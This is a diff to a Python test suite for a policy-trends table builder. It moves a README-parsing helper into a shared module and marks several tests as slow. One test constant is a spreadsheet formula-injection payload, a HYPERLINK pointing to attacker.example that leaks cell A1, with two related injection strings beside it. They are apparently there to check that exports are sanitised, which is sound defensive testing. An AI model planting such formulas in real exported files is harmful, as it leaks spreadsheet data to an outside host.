@@ -25,8 +25,8 @@ from policytrends.trends.build import TABLES, build_outputs
 
 from policytrends import settings as S
 from policytrends.errors import PolicyTrendsError
+from tests.helpers import documented_columns
 
-PROJECT = Path(__file__).resolve().parent.parent
 EVIL_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full report")'
 EVIL_THEME = '=HYPERLINK("t")'
 EVIL_SOURCE = "@gamma"
@@ -110,20 +110,8 @@ def _read(out: Path, name: str) -> pd.DataFrame:
 
 
 # --------------------------------------------------------------------------- files and documentation
-def _documented_columns() -> dict[str, list[str]]:
-    text = (PROJECT / "outputs" / "README.md").read_text(encoding="utf-8")
-    sections = re.split(r"^## ", text, flags=re.M)[1:]
-    out = {}
-    for section in sections:
-        heading, _, body = section.partition("\n")
-        columns = re.findall(r"^\| `([^`]+)` \|", body, flags=re.M)
-        for name in re.findall(r"[\w.]+\.(?:csv|parquet|png|html)", heading):
-            out[name] = columns
-    return out
-
-
 def test_every_table_is_written_as_csv_and_parquet_and_documented(built):
-    documented = _documented_columns()
+    documented = documented_columns()
     for csv_name, parquet_name in TABLES.values():
         frame = _read(built["out"], csv_name)
         parquet = pd.read_parquet(built["out"] / parquet_name)
@@ -350,6 +338,7 @@ def test_a_date_in_the_future_is_treated_as_unknown(tmp_path):
     assert coverage[coverage["source"] == "a"]["period"].isna().sum() == 1
 
 
+@pytest.mark.slow
 def test_two_model_versions_are_never_mixed(tmp_path):
     b = StoreBuilder(tmp_path / "c.sqlite")
     b.add("a", date(2024, 1, 10), [{"cyber": 0.9}, {"cyber": 0.1}], versions=("v1", "v2"))
@@ -384,6 +373,7 @@ def test_a_version_with_no_predictions_at_all(tmp_path):
 
 
 # --------------------------------------------------------------------------- incremental reads
+@pytest.mark.slow
 def test_a_rebuild_reads_only_new_predictions_and_gives_the_same_tables(tmp_path):
     b = StoreBuilder(tmp_path / "c.sqlite")
     rng = np.random.default_rng(3)
@@ -411,6 +401,7 @@ def test_a_rebuild_reads_only_new_predictions_and_gives_the_same_tables(tmp_path
         assert (out / name).read_bytes() == (fresh / name).read_bytes(), name
 
 
+@pytest.mark.slow
 def test_a_snapshot_of_another_store_is_not_trusted(tmp_path):
     out = tmp_path / "out"
     first = StoreBuilder(tmp_path / "one.sqlite")
@@ -425,6 +416,7 @@ def test_a_snapshot_of_another_store_is_not_trusted(tmp_path):
     assert set(_read(out, S.THEME_TRENDS_MONTHLY)["source"]) == {"b", "ALL"}
 
 
+@pytest.mark.slow
 def test_a_snapshot_that_misses_passages_is_read_again(tmp_path):
     b = StoreBuilder(tmp_path / "c.sqlite")
     b.add("a", date(2024, 1, 5), [{t: 0.9 for t in THEMES}])
